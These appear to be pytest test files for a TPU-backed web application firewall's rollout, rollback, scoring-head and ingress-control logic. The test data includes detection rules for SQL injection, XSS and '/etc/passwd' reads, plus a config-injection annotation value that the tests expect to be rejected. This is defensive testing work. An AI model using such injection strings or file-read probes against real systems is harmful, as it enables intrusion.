        ro.record_candidate_failure("test_forced")
        assert ro.state == ROLLED_BACK
        assert ro.rollback_reason == "candidate_dispatch_failures"
        assert ro.rollbacks == 1
        # incumbent serving, counters/drift state untouched (no swap
        # ever happened, so there is no frozen generation)
        assert b.pipeline.ruleset.version == inc_v
        assert b.pipeline.frozen_rule_stats is None
        vs, viol = _collect(
            [b.submit(r) for r in _requests(12, attack_every=4, tag="rb")],
            30)
        assert not viol
        hits = [v for v in vs if v.attack]
        assert hits and all(v.generation == inc_v for v in hits)
        # the failed pack is quarantined with the reason
        qfiles = list((tmp_path / "quarantine").glob("*.json"))
        assert qfiles
        q = json.loads(qfiles[0].read_text())
        assert q["version"] == packs["cand"].version
        assert "candidate_dispatch_failures" in q["reason"]
        # canary routing is off: new traffic is incumbent-only
        assert not ro.canary_active and not ro.shadow_active
    finally:
        b.close()


def test_rollback_triggers_confirm_errors_and_diff(packs):
    """The trigger matrix: candidate confirm-error spike and live
    verdict-diff each independently force a rollback."""
    b, ro = _rollout_batcher(packs)
    try:
        ro.admit(ruleset=packs["cand"])
        # synthetic confirm-error spike on the candidate generation
        ro.candidate.rule_stats.confirm_errors[0] = 3
        ro._evaluate()
        assert ro.state == ROLLED_BACK
        assert ro.rollback_reason == "confirm_error_spike"
    finally:
        b.close()
    b, ro = _rollout_batcher(packs)
    try:
        ro.admit(ruleset=packs["cand"])
        ro.shadow_compared = 100
        ro.diff["new_block"] = 50
        ro._evaluate()
        assert ro.state == ROLLED_BACK
        assert ro.rollback_reason == "verdict_diff"
    finally:
        b.close()


def test_candidate_carries_acl_and_tenant_state(packs):
    """A canary must enforce the SAME ACLs and tenant rule subsets as
    the incumbent — a rollout must never un-deny a blocked source or
    widen a tenant's rule set mid-ramp."""
    b, ro = _rollout_batcher(packs)
    try:
        b.set_tenant_tags({1: ("attack-xss",)})
        live = b.pipeline
        live.acl_store.swap({"edge": {"deny": ["203.0.113.0/24"]}})
        live.tenant_acl = {0: "edge"}
        live.default_acl = "edge"
        ro.admit(ruleset=packs["cand"])
        cand = ro.candidate
        assert cand.acl_store is live.acl_store      # live pushes apply
        assert cand.tenant_acl == live.tenant_acl
        assert cand.default_acl == "edge"
        # tenant masks re-derived against the CANDIDATE rule axis
        assert cand.tenant_rule_mask is not None
        assert cand.tenant_rule_mask.shape == (2, packs["cand"].n_rules)
        assert cand.tenant_rule_mask[1].sum() == 1   # xss-only tenant
    finally:
        b.close()


def test_override_validation_and_no_mutation_on_concurrent_admit(packs):
    from ingress_plus_tpu.control.rollout import validate_overrides

    with pytest.raises(ValueError):
        validate_overrides({"steps": [0.5, 0.2]})      # not ascending
    with pytest.raises(ValueError):
        validate_overrides({"steps": [0.5]})           # doesn't end at 1
    with pytest.raises(ValueError):
        validate_overrides({"steps": ["x"]})
    with pytest.raises(ValueError):
        validate_overrides({"step_min_requests": 0})
    with pytest.raises(ValueError):
        validate_overrides({"nope": 1})
    assert validate_overrides({"steps": [0.5, 1.0]}) == \
        {"steps": (0.5, 1.0)}

    b, ro = _rollout_batcher(packs)
    try:
        ro.admit(ruleset=packs["cand"])
        steps0 = ro.config.steps
        # a concurrent admit is rejected BEFORE its overrides touch the
        # active rollout's config (a shorter steps list reaching
        # split() would kill the dispatch thread)
        with pytest.raises(RolloutRejected) as ei:
            ro.admit(ruleset=packs["broken"], overrides={"steps": [1.0]})
        assert ei.value.report["reason"] == "rollout_in_progress"
        assert ro.config.steps == steps0
        assert ro.state == SHADOW
    finally:
        b.close()


def test_mirror_skips_unscanned_and_degraded_verdicts(packs):
    """An incumbent fail-open/degraded verdict was never fully scanned:
    diffing it against the candidate would book the candidate's CORRECT
    blocks as divergence and roll back a good pack because the
    INCUMBENT lane faulted."""
    from ingress_plus_tpu.models.pipeline import Verdict

    b, ro = _rollout_batcher(packs)
    try:
        ro.admit(ruleset=packs["cand"])
        req = Request(uri="/x", request_id="m1")
        fo = Verdict(request_id="m1", blocked=False, attack=False,
                     classes=[], rule_ids=[], score=0, fail_open=True)
        ro.mirror(req, fo)
        deg = Verdict(request_id="m1", blocked=False, attack=False,
                      classes=[], rule_ids=[], score=0, degraded=True,
                      generation=packs["inc"].version)
        ro.mirror(req, deg)
        assert ro.shadow_mirrored == 0 and ro._shadow_q.qsize() == 0
        full = Verdict(request_id="m1", blocked=False, attack=False,
                       classes=[], rule_ids=[], score=0,
                       generation=packs["inc"].version)
        ro.mirror(req, full)
        assert ro.shadow_mirrored == 1
    finally:
        b.close()


def test_overrides_do_not_leak_into_next_rollout(packs):
    b, ro = _rollout_batcher(packs)
    try:
        base_steps = ro.config.steps
        ro.admit(ruleset=packs["cand"],
                 overrides={"steps": [1.0], "step_min_requests": 2})
        assert ro.config.steps == (1.0,)
        ro.abort("test")
        # next rollout (no overrides): back to the attached defaults
        ro.admit(ruleset=packs["cand"])
        assert ro.config.steps == base_steps
        assert ro.config.step_min_requests == 8
    finally:
        b.close()


def test_shadow_lane_is_budget_capped(packs):
    """Acceptance: shadow work can never starve the CPU plane — a zero
    CPU budget means every mirrored request is DROPPED (counted), never
    queued unboundedly or scanned; the verdict path is untouched."""
    b, ro = _rollout_batcher(packs, shadow_cpu_budget=0.0)
    try:
        ro.admit(ruleset=packs["cand"])
        vs, viol = _collect(
            [b.submit(r) for r in _requests(48, attack_every=4, tag="bg")],
            30)
        assert not viol and len(vs) == 48   # verdict path unaffected
        deadline = time.monotonic() + 10
        while ro.shadow_dropped == 0 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert ro.shadow_dropped > 0
        assert ro.shadow_compared == 0      # nothing scanned over budget
        assert ro.state == SHADOW           # and the rollout just waits
        # the mirror queue itself is bounded: flooding it synchronously
        # can never block the caller or grow past the cap
        for i in range(2 * ro.config.shadow_queue_cap):
            ro.mirror(Request(uri="/x", request_id="flood-%d" % i), vs[0])
        assert ro._shadow_q.qsize() <= ro.config.shadow_queue_cap
    finally:
        b.close()


# ------------------------------------------------- last-known-good

def test_lkg_persist_load_roundtrip_and_corruption(packs, tmp_path):
    persist_lkg(packs["inc"], tmp_path)
    got = load_lkg(tmp_path)
    assert got is not None and got.version == packs["inc"].version
    # newer pack replaces the pointer atomically; old pack retired
    persist_lkg(packs["cand"], tmp_path)
    assert load_lkg(tmp_path).version == packs["cand"].version
    # corrupt pointer → None (startup falls back, never raises)
    (tmp_path / "LKG").write_text("{not json")
    assert load_lkg(tmp_path) is None
    # pointer naming a missing artifact (crash mid-persist) → None
    (tmp_path / "LKG").write_text(json.dumps({"artifact": "pack-gone"}))
    assert load_lkg(tmp_path) is None
    assert load_lkg(tmp_path / "never-created") is None


def test_promote_persists_lkg_and_restart_prefers_it(packs, tmp_path):
    """Crash-recovery acceptance: a pack that reaches LIVE lands in the
    LKG store, and a 'restarted server' (the build-time preference
    logic) serves it over the configured rules source."""
    b, ro = _rollout_batcher(packs, lkg_dir=str(tmp_path))
    try:
        ro.admit(ruleset=packs["cand"])
        _drive(b, ro, (LIVE, REJECTED, ROLLED_BACK), tag="lk")
        assert ro.state == LIVE
    finally:
        b.close()
    # "restart": startup prefers the LKG artifact (the pack that
    # survived traffic) over the mid-rollout rules source
    recovered = load_lkg(tmp_path)
    assert recovered is not None
    assert recovered.version == packs["cand"].version
    nb = _mk_batcher(cr=recovered)
    try:
        vs, viol = _collect(
            [nb.submit(r) for r in _requests(8, attack_every=4, tag="rs")],
            30)
        assert not viol and any(v.attack for v in vs)
        assert nb.pipeline.ruleset.version == packs["cand"].version
    finally:
        nb.close()


# ------------------------------------------------- serve-plane layer

@pytest.fixture()
def serve_stack(packs, tmp_path):
    from ingress_plus_tpu.serve.server import ServeLoop

    b, ro = _rollout_batcher(packs, lkg_dir=str(tmp_path / "lkg"))
    serve = ServeLoop(b, str(tmp_path / "ipt.sock"))
    yield serve, b, ro, tmp_path
    b.close()


def _route(serve, method, path, payload=b""):
    status, _ctype, body = asyncio.run(
        serve._route_http(method, path, payload))
    return status, json.loads(body)


def test_endpoint_staged_default_and_rejection(serve_stack, packs):
    serve, b, ro, tmp_path = serve_stack
    art = tmp_path / "broken"
    packs["broken"].save(art)
    v0 = b.pipeline.ruleset.version
    status, body = _route(serve, "POST", "/configuration/ruleset",
                          json.dumps({"path": str(art)}).encode())
    assert status.startswith("422"), (status, body)
    assert body["rejected"] and body["stage"] == "static"
    assert body["artifact"] == str(art)
    assert b.pipeline.ruleset.version == v0
    # the rejection is a metric
    metrics = serve._metrics_text()
    assert 'ipt_swap_rejected_total{reason="rulecheck"} 1' in metrics
    assert "ipt_rollout_state" in metrics


def test_endpoint_corrupt_artifact_structured_load_rejection(serve_stack):
    serve, _b, ro, tmp_path = serve_stack
    art = tmp_path / "garbage"
    art.with_suffix(".npz").write_bytes(b"not an npz")
    art.with_suffix(".json").write_text("{}")
    # force mode: previously a generic executor error — now a structured
    # 4xx naming the stage and artifact, counted by reason="load"
    status, body = _route(
        serve, "POST", "/configuration/ruleset?mode=force",
        json.dumps({"path": str(art)}).encode())
    assert status.startswith("400"), (status, body)
    assert body["stage"] == "load" and body["reason"] == "load"
    assert body["artifact"] == str(art)
    assert ro.swap_rejected.get("load") == 1
    assert 'ipt_swap_rejected_total{reason="load"} 1' \
        in serve._metrics_text()


def test_endpoint_force_mode_keeps_oneshot_swap(serve_stack, packs):
    serve, b, _ro, tmp_path = serve_stack
    art = tmp_path / "cand"
    packs["cand"].save(art)
    status, body = _route(
        serve, "POST", "/configuration/ruleset?mode=force",
        json.dumps({"path": str(art)}).encode())
    assert status.startswith("200"), body
    assert body["ruleset"] == packs["cand"].version
    assert body["mode"] == "force"
    # one-shot: the pack is serving IMMEDIATELY, no ramp
    assert b.pipeline.ruleset.version == packs["cand"].version


def test_endpoint_rollout_status_and_abort(serve_stack, packs):
    serve, b, ro, tmp_path = serve_stack
    status, body = _route(serve, "GET", "/rollout")
    assert status.startswith("200") and body["enabled"]
    assert body["state"] == "idle"
    art = tmp_path / "cand"
    packs["cand"].save(art)
    status, body = _route(
        serve, "POST", "/configuration/ruleset",
        json.dumps({"path": str(art), "step_min_requests": 4,
                    "shadow_min_requests": 2}).encode())
    assert status.startswith("200"), body
    assert body["staged"] and body["state"] == "shadow"
    assert body["replay"]["new_fns"] == 0
    status, body = _route(serve, "GET", "/rollout")
    assert body["state"] == "shadow" and body["candidate"]
    # operator abort rolls back to the incumbent
    status, body = _route(serve, "POST", "/rollout",
                          json.dumps({"action": "abort"}).encode())
    assert status.startswith("200") and body["aborted"]
    assert body["state"] == "rolled_back"
    assert b.pipeline.ruleset.version == packs["inc"].version
    # bad action → 400
    status, _body = _route(serve, "POST", "/rollout",
                           json.dumps({"action": "nope"}).encode())
    assert status.startswith("400")


def test_force_swap_aborts_active_rollout(serve_stack, packs):
    serve, b, ro, tmp_path = serve_stack
    ro.admit(ruleset=packs["cand"])
    assert ro.state == SHADOW
    art = tmp_path / "cand2"
    packs["cand"].save(art)
    status, body = _route(
        serve, "POST", "/configuration/ruleset?mode=force",
        json.dumps({"path": str(art)}).encode())
    assert status.startswith("200"), body
    assert ro.state == ROLLED_BACK
    assert ro.rollback_reason == "force_swap"
    assert b.pipeline.ruleset.version == packs["cand"].version


def test_dbg_rollout_renderer(serve_stack, packs):
    from ingress_plus_tpu.control.dbg import render_rollout

    serve, _b, ro, _tmp = serve_stack
    ro.admit(ruleset=packs["cand"])
    _status, body = _route(serve, "GET", "/rollout")
    out = render_rollout(body)
    assert "rollout: shadow" in out
    assert packs["cand"].version in out
    assert render_rollout({"enabled": False}).startswith("no rollout")


def test_endpoint_staged_without_controller_is_409(packs, tmp_path):
    """An EXPLICIT ?mode=staged against a batcher with no rollout
    controller must refuse — never silently fall through to the
    ungated one-shot swap the caller asked to avoid."""
    from ingress_plus_tpu.serve.server import ServeLoop

    b = _mk_batcher(cr=packs["inc"])        # rollout stays None
    try:
        serve = ServeLoop(b, str(tmp_path / "ipt.sock"))
        art = tmp_path / "cand"
        packs["cand"].save(art)
        status, body = _route(
            serve, "POST", "/configuration/ruleset?mode=staged",
            json.dumps({"path": str(art)}).encode())
        assert status.startswith("409"), (status, body)
        assert b.pipeline.ruleset.version == packs["inc"].version
        # bad override values are a 400, not a dead dispatch thread
        b.rollout = RolloutController(b, _fast_config())
        status, body = _route(
            serve, "POST", "/configuration/ruleset",
            json.dumps({"path": str(art), "steps": [0.5]}).encode())
        assert status.startswith("400"), (status, body)
        assert "steps" in body["error"]
    finally:
        b.close()


def test_watcher_remembers_rejected_versions(packs, tmp_path):
    """RulesetWatcher satellite: a pack the admission gate rejected
    (deterministic 4xx) is not re-pushed — and so not re-gated, corpus
    replay and all — every poll tick forever."""
    import urllib.error

    from ingress_plus_tpu.post.export import RulesetWatcher

    art = tmp_path / "pack"
    packs["cand"].save(art)
    calls = []

    def rejecting_poster(path, payload):
        calls.append(path)
        raise urllib.error.HTTPError(path, 422, "rejected", {}, None)

    w = RulesetWatcher(str(tmp_path), "127.0.0.1:1", poster=rejecting_poster)
    assert w.check_once() is False
    assert len(calls) == 1
    assert packs["cand"].version in w.rejected_versions
    # same artifact, next tick: skipped without a wire attempt
    assert w.check_once() is False
    assert len(calls) == 1
    # a NEW artifact version is still tried
    art2 = tmp_path / "pack2"
    packs["inc"].save(art2)
    import os
    os.utime(art2.with_suffix(".json"),
             (time.time() + 5, time.time() + 5))
    w.check_once()
    assert len(calls) == 2


def test_watcher_retries_transient_rejections(packs, tmp_path):
    """A 422 whose body says another rollout is in progress (and any
    409) is TRANSIENT — the artifact must stay retryable, or a pack
    published mid-rollout would silently never ship."""
    import io
    import urllib.error

    from ingress_plus_tpu.post.export import RulesetWatcher

    art = tmp_path / "pack"
    packs["cand"].save(art)
    calls = []

    def busy_poster(path, payload):
        calls.append(path)
        body = json.dumps({"rejected": True, "stage": "admission",
                           "reason": "rollout_in_progress"}).encode()
        raise urllib.error.HTTPError(path, 422, "busy", {},
                                     io.BytesIO(body))

    w = RulesetWatcher(str(tmp_path), "127.0.0.1:1", poster=busy_poster)
    assert w.check_once() is False
    assert not w.rejected_versions       # transient: not blacklisted
    assert w.check_once() is False       # ... and re-attempted next tick
    assert len(calls) == 2


# ------------------------------------------------------ the CI drill

def test_swap_drill_gate(tmp_path):
    """The swapdrill CI gate end to end: good pack → LIVE, dirty pack →
    REJECTED with zero traffic impact, forced mid-canary failure →
    ROLLED_BACK — exactly-one-verdict throughout."""
    rep = run_swap_drill(lkg_dir=str(tmp_path))
    assert rep["passed"], json.dumps(rep, indent=2, default=str)
    drills = rep["drills"]
    assert drills["good_pack_to_live"]["state"] == "live"
    assert drills["broken_pack_rejected"]["state"] == "rejected"
    assert drills["mid_canary_rollback"]["state"] == "rolled_back"


# ------------------------------------------- scoring-head rollouts (ISSUE 8)

def _drill_scoring_head(threshold=3.0, version="drillhead-1"):
    """Hand-built head over the drill pack's two CRS ids: weight 4 per
    rule, so any confirmed hit clears threshold 3 — decision-identical
    to the fixed weights (CRITICAL=5 >= anomaly threshold 5), which
    keeps the admission replay diff-free."""
    from ingress_plus_tpu.learn.head import ScoringHead

    return ScoringHead(rule_ids=[942100, 941100], weights=[4.0, 4.0],
                       bias=0.0, threshold=threshold, version=version)


def test_scoring_rollout_reaches_live_generation_correct(packs, tmp_path):
    """A scoring-head swap rides the full staged gates under load:
    every scanned verdict names exactly one of the two generations,
    candidate-served verdicts carry the learned margin, promote leaves
    the PACK untouched but installs the head, and the scorer LKG
    persists."""
    from ingress_plus_tpu.learn.head import load_lkg_scorer

    b, ro = _rollout_batcher(packs, lkg_dir=str(tmp_path))
    head = _drill_scoring_head()
    inc_v = packs["inc"].version
    cand_gen = "%s+%s" % (inc_v, head.version)
    try:
        rep = ro.admit_scoring(head=head)
        assert rep["kind"] == "scorer" and rep["coverage"] == 1.0
        assert rep["replay"]["new_fns"] == 0
        verdicts = _drive(b, ro, (LIVE, REJECTED, ROLLED_BACK), tag="sc")
        assert ro.state == LIVE, (ro.state, ro.rollback_reason)
        gens = {v.generation for v in verdicts if v.generation}
        assert gens <= {inc_v, cand_gen}, gens
        cand_served = [v for v in verdicts if v.generation == cand_gen]
        assert cand_served
        assert all(v.learned_score is not None for v in cand_served)
        assert all(v.learned_score is None for v in verdicts
                   if v.generation == inc_v)
        # promoted: same pack, head installed, drift snapshot frozen
        assert b.pipeline.ruleset.version == inc_v
        assert b.pipeline.scorer is not None
        assert b.pipeline.frozen_rule_stats is not None
        vs, viol = _collect([b.submit(r) for r in
                             _requests(8, attack_every=4, tag="scp")], 30)
        assert not viol
        hits = [v for v in vs if v.attack]
        assert hits and all(v.generation == cand_gen for v in hits)
        lkg = load_lkg_scorer(tmp_path)
        assert lkg is not None and lkg.version == head.version
    finally:
        b.close()


def test_scoring_admission_rejections(packs, tmp_path):
    """Malformed artifact, alien rule-id map, and an over-passing head
    are each rejected at their own stage with zero traffic impact."""
    from ingress_plus_tpu.learn.head import ScoringHead

    b, ro = _rollout_batcher(packs)
    try:
        art = tmp_path / "garbage-head"
        art.with_suffix(".npz").write_bytes(b"not an npz")
        art.with_suffix(".json").write_text("{}")
        with pytest.raises(RolloutRejected) as ei:
            ro.admit_scoring(artifact_path=str(art))
        assert ei.value.report["stage"] == "load"
        assert ro.swap_rejected.get("scorer_load") == 1
        # rule-id map that covers none of the live pack
        alien = ScoringHead(rule_ids=[1, 2, 3], weights=[1.0, 1.0, 1.0],
                            bias=0.0, threshold=0.5, version="alien-1")
        with pytest.raises(RolloutRejected) as ei:
            ro.admit_scoring(head=alien)
        assert ei.value.report["stage"] == "coverage"
        assert ei.value.report["detail"]["coverage"] == 0.0
        # unreachable threshold loses golden attacks → replay gate
        # (corpus_n up from the drill default: the 2-rule drill pack
        # flags only the union-select/script subset of golden attacks,
        # and the 32-request drill corpus happens to carry none)
        ro._base_config.corpus_n = 256
        lossy = _drill_scoring_head(threshold=99.0, version="lossy-1")
        with pytest.raises(RolloutRejected) as ei:
            ro.admit_scoring(head=lossy)
        assert ei.value.report["stage"] == "replay"
        assert ei.value.report["reason"] == "new_fns"
        assert ei.value.report["detail"]["new_fns"] > 0
        # incumbent fixed-weight scoring untouched throughout
        assert b.pipeline.scorer is None
        vs, viol = _collect([b.submit(r) for r in
                             _requests(8, attack_every=4, tag="sar")], 30)
        assert not viol
        hits = [v for v in vs if v.attack]
        assert hits and all(v.generation == packs["inc"].version
                            for v in hits)
    finally:
        b.close()


def test_scoring_midcanary_verdict_diff_rollback(packs, tmp_path):
    """Mid-canary divergence (injected via the shadow_diverge fault
    site) trips the verdict-diff trigger: auto-rollback restores the
    fixed-weight scorer, the head is quarantined with the reason, and
    the incumbent never stops serving."""
    from ingress_plus_tpu.utils import faults

    b, ro = _rollout_batcher(packs, lkg_dir=str(tmp_path))
    head = _drill_scoring_head(version="diverge-1")
    try:
        ro.admit_scoring(head=head)
        deadline = time.monotonic() + 60
        wave = 0
        while ro.state in (SHADOW, "admitted") \
                and time.monotonic() < deadline:
            _, viol = _collect([b.submit(r) for r in
                                _requests(24, attack_every=4,
                                          tag="dv%d" % wave)], 30)
            assert not viol, viol
            wave += 1
        assert ro.state == CANARY, (ro.state, ro.rollback_reason)
        faults.install(faults.FaultPlan.from_spec(
            "shadow_diverge:times=100"))
        verdicts = _drive(b, ro, (LIVE, REJECTED, ROLLED_BACK), tag="dx")
        assert verdicts is not None
        assert ro.state == ROLLED_BACK, (ro.state, ro.rollback_reason)
        assert ro.rollback_reason == "verdict_diff"
        # the incumbent's fixed-weight scorer is serving, untouched
        assert b.pipeline.scorer is None
        vs, viol = _collect([b.submit(r) for r in
                             _requests(8, attack_every=4, tag="dvp")], 30)
        assert not viol
        hits = [v for v in vs if v.attack]
        assert hits and all(v.generation == packs["inc"].version
                            for v in hits)
        qfiles = list((tmp_path / "quarantine").glob("*.json"))
        assert qfiles
        q = json.loads(qfiles[0].read_text())
        assert q["reason"] == "verdict_diff"
        assert q["version"] == head.version
    finally:
        faults.clear()
        b.close()


def test_endpoint_scoring_staged_force_and_status(serve_stack):
    """/configuration/scoring staged push lands in SHADOW; ?mode=force
    installs/clears one-shot; /scoring + /metrics expose the lane."""
    serve, b, ro, tmp_path = serve_stack
    status, body = _route(serve, "GET", "/scoring")
    assert status.startswith("200") and body["active"] is False
    head = _drill_scoring_head(version="ep-1")
    art = tmp_path / "head-ep"
    head.save(art)
    status, body = _route(serve, "POST", "/configuration/scoring",
                          json.dumps({"path": str(art)}).encode())
    assert status.startswith("200"), body
    assert body["staged"] and body["kind"] == "scorer"
    assert ro.state == SHADOW and b.pipeline.scorer is None
    assert ro.abort("test")
    # force install is immediate (break-glass)
    status, body = _route(serve, "POST",
                          "/configuration/scoring?mode=force",
                          json.dumps({"path": str(art)}).encode())
    assert status.startswith("200"), body
    assert b.pipeline.scorer is not None
    status, body = _route(serve, "GET", "/scoring")
    assert body["active"] and body["head"]["version"] == "ep-1"
    assert body["generation"].endswith("+ep-1")
    m = serve._metrics_text()
    assert "ipt_scorer_active 1" in m
    assert 'ipt_scorer_info{version="ep-1"' in m
    # dbg renderer on the live body
    from ingress_plus_tpu.control.dbg import render_scoring
    out = render_scoring(body)
    assert "LEARNED head ep-1" in out and "coverage" in out
    # force clear restores fixed weights
    status, body = _route(serve, "POST",
                          "/configuration/scoring?mode=force",
                          json.dumps({"clear": True}).encode())
    assert status.startswith("200") and b.pipeline.scorer is None
    out = render_scoring(_route(serve, "GET", "/scoring")[1])
    assert "FIXED CRS weights" in out


def test_endpoint_scoring_malformed_and_staged_clear(serve_stack):
    serve, b, ro, tmp_path = serve_stack
    art = tmp_path / "garbage-ep"
    art.with_suffix(".npz").write_bytes(b"junk")
    art.with_suffix(".json").write_text("{}")
    status, body = _route(serve, "POST", "/configuration/scoring",
                          json.dumps({"path": str(art)}).encode())
    assert status.startswith("422"), (status, body)
    assert body["rejected"] and body["stage"] == "load"
    assert b.pipeline.scorer is None
    # staged clear is refused ("remove the model" has no gate story)
    status, body = _route(serve, "POST", "/configuration/scoring",
                          json.dumps({"clear": True}).encode())
    assert status.startswith("400")
    assert "force" in body["error"]
