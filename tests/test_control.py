"""Control plane: annotations → model → template → admission → sync.

Mirrors the reference's test strategy (SURVEY.md §4): table-driven
annotation parser tests with synthetic Ingress objects
(annotations/*/main_test.go†) and golden-file template rendering
(template_test.go†).
"""

import json

import pytest

from ingress_plus_tpu.compiler.ruleset import CompiledRuleset, compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.admission import lint_rendered, validate
from ingress_plus_tpu.control.annotations import (
    PREFIX,
    AnnotationError,
    Extractor,
)
from ingress_plus_tpu.control.config import GlobalConfig
from ingress_plus_tpu.control.model import build_configuration
from ingress_plus_tpu.control.objects import ConfigMap, Ingress
from ingress_plus_tpu.control.sync import (
    MAX_TENANTS,
    SyncController,
    tenant_masks,
    validate_tenant_tags,
)
from ingress_plus_tpu.control.template import render

RULES = """
SecRule ARGS "@rx (?i)union\\s+select" "id:1,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS "@rx (?i)<script" "id:2,phase:2,block,severity:CRITICAL,tag:'attack-xss'"
SecRule ARGS "@rx /etc/passwd" "id:3,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""


def ing(name="app", ns="default", host="app.example.com", annotations=None,
        service="app-svc", port=8080, path="/"):
    return Ingress.from_dict({
        "metadata": {"name": name, "namespace": ns,
                     "annotations": {PREFIX + k: v for k, v in
                                     (annotations or {}).items()}},
        "spec": {"rules": [{
            "host": host,
            "http": {"paths": [{
                "path": path, "pathType": "Prefix",
                "backend": {"service": {"name": service,
                                        "port": {"number": port}}}}]},
        }]},
    })


# --------------------------------------------------------- annotations

@pytest.mark.parametrize("key,raw,field,want", [
    ("wallarm-mode", "block", "mode", "block"),
    ("wallarm-mode", "MONITORING", "mode", "monitoring"),
    ("wallarm-fallback", "off", "fallback", False),
    ("detection-backend", "tpu", "detection_backend", "tpu"),
    ("detection-paranoia-level", "3", "paranoia_level", 3),
    ("detection-rule-tags", "attack-sqli, attack-xss", "rule_subset",
     ["attack-sqli", "attack-xss"]),
    ("wallarm-parser-disable", "xml,json", "parser_disable",
     ["xml", "json"]),
])
def test_annotation_parsing(key, raw, field, want):
    cfg = Extractor().extract(ing(annotations={key: raw}))
    assert getattr(cfg, field) == want


def test_application_alias_overrides_instance():
    cfg = Extractor().extract(ing(annotations={
        "wallarm-instance": "old", "wallarm-application": "new"}))
    assert cfg.instance == "new"


def test_lenient_bad_value_keeps_default_and_records_error():
    ex = Extractor()
    cfg = ex.extract(ing(annotations={"wallarm-mode": "nonsense"}))
    assert cfg.mode == "off" and ex.errors


def test_strict_raises_on_bad_value_and_blocklist():
    with pytest.raises(AnnotationError):
        Extractor(strict=True).extract(
            ing(annotations={"wallarm-mode": "nonsense"}))
    with pytest.raises(AnnotationError):
        Extractor(strict=True).extract(
            ing(annotations={"wallarm-block-page": "/x;}{injected"}))


# ------------------------------------------------------------- config

def test_globalconfig_from_configmap():
    g = GlobalConfig.from_configmap(ConfigMap(data={
        "enable-detection": "true", "default-mode": "block",
        "detection-backend": "tpu", "batch-window-us": "250",
        "max-batch": "bogus",  # bad int → default + error
    }))
    assert g.enable_detection and g.default_mode == "block"
    assert g.detection_backend == "tpu" and g.batch_window_us == 250
    assert g.max_batch == 256 and any("max-batch" in e for e in g.errors)


# ----------------------------------------------------- model + tenants

def test_model_tenants_and_global_merge():
    g = GlobalConfig(enable_detection=True, default_mode="monitoring",
                     detection_backend="tpu")
    ings = [
        ing(name="a", annotations={"wallarm-mode": "block",
                                   "detection-rule-tags": "attack-sqli"}),
        ing(name="b", host="b.example.com"),
    ]
    cfg = build_configuration(ings, g)
    locs = {l.ingress_key: l for s in cfg.servers for l in s.locations}
    assert locs["default/a"].detection.mode == "block"
    assert locs["default/a"].detection.tenant == 1
    assert locs["default/b"].detection.mode == "monitoring"  # global default
    assert locs["default/b"].detection.tenant == 0
    assert locs["default/b"].detection.detection_backend == "tpu"
    assert cfg.tenant_tags() == {1: ("attack-sqli",)}


def test_strict_override_policy_caps_mode():
    g = GlobalConfig(enable_detection=True, default_mode="monitoring",
                     mode_allow_override="strict")
    cfg = build_configuration(
        [ing(annotations={"wallarm-mode": "block"})], g)
    assert cfg.servers[0].locations[0].detection.mode == "monitoring"


def test_tenant_masks_from_tags():
    cr = compile_ruleset(parse_seclang(RULES))
    masks = tenant_masks(cr, {1: ("attack-sqli",), 2: ("attack-xss",
                                                       "attack-lfi")})
    assert masks.shape == (3, cr.n_rules)
    assert masks[0].all()
    by_id = {int(cr.rule_ids[i]): i for i in range(cr.n_rules)}
    assert masks[1, by_id[1]] and not masks[1, by_id[2]]
    assert masks[2, by_id[2]] and masks[2, by_id[3]] and not masks[2, by_id[1]]


# ----------------------------------------------------------- template

GOLDEN = """\
# generated by ingress_plus_tpu.control — do not edit
http {
    server_tokens off;
    client_body_buffer_size 16k;
    log_format upstream_info '$remote_addr - $request "$status" $detect_verdict';
    detect_tpu_metrics 127.0.0.1:9901;

    server {
        server_name app.example.com;
        location / {
            # ingress: default/app
            detect_tpu on;
            detect_tpu_socket /run/ipt/detect.sock;
            detect_tpu_mode block;
            detect_tpu_timeout_ms 30;
            detect_tpu_fail_open on;
            proxy_set_header X-Request-ID $request_id;
            client_max_body_size 1m;
            proxy_pass http://upstream_app-svc_8080;
        }
    }
}
"""


def test_template_golden_tpu_backend():
    g = GlobalConfig()
    cfg = build_configuration(
        [ing(annotations={"wallarm-mode": "block",
                          "detection-backend": "tpu"})], g)
    assert render(cfg, g) == GOLDEN


def test_template_cpu_backend_renders_wallarm_directives():
    g = GlobalConfig()
    cfg = build_configuration(
        [ing(annotations={"wallarm-mode": "monitoring"})], g)
    text = render(cfg, g)
    assert "wallarm_mode monitoring;" in text
    assert "detect_tpu" not in text


def test_render_deterministic():
    g = GlobalConfig()
    ings = [ing(name=n, host="%s.example.com" % n) for n in "cab"]
    assert render(build_configuration(ings, g), g) == \
        render(build_configuration(list(reversed(ings)), g), g)


# ---------------------------------------------------------- admission

def test_admission_rejects_bad_annotation_and_accepts_good():
    bad = ing(annotations={"detection-backend": "gpu"})
    assert not validate(bad).allowed
    good = ing(annotations={"wallarm-mode": "block",
                            "detection-backend": "tpu"})
    r = validate(good)
    assert r.allowed, r.messages


def test_lint_catches_structural_breakage():
    assert lint_rendered("http {\n    broken_directive\n}\n")
    assert lint_rendered("http {\n") and not lint_rendered("http {\n}\n")


# --------------------------------------------------------------- sync

def test_sync_reload_dynamic_noop_transitions():
    sc = SyncController()
    ings = [ing(annotations={"wallarm-mode": "block",
                             "detection-backend": "tpu"})]
    r1 = sc.sync(ings, push=False)
    assert r1.action == "reload"
    r2 = sc.sync(ings, push=False)
    assert r2.action == "noop"
    # tag-only change → rendered text changes tenant directive → reload;
    # but a tenant-table change with identical text is "dynamic": simulate
    # by mutating last_rendered to the new text first
    ings2 = [ing(annotations={"wallarm-mode": "block",
                              "detection-backend": "tpu",
                              "detection-rule-tags": "attack-sqli"})]
    sc.last_rendered = None
    r3 = sc.sync(ings2, push=False)
    assert r3.action == "reload"
    sc.last_tenants = {}
    r4 = sc.sync(ings2, push=False)
    assert r4.action == "dynamic"


def test_sync_failed_push_retries_with_bounded_backoff():
    """ISSUE 5 satellite: a failed dynamic push must not wait for the
    next unrelated diff — the dirty channel retries on subsequent sync
    ticks with bounded exponential backoff until it converges."""
    sc = SyncController()
    clock = [1000.0]
    sc._now = lambda: clock[0]
    posts = []
    fail_first = [3]   # endpoint down for the first 3 attempts

    def flaky(path, obj):
        posts.append((clock[0], path, obj))
        if fail_first[0] > 0:
            fail_first[0] -= 1
            return False
        return True

    sc._post = flaky
    # pin the acl channel clean: this test isolates the tenants channel
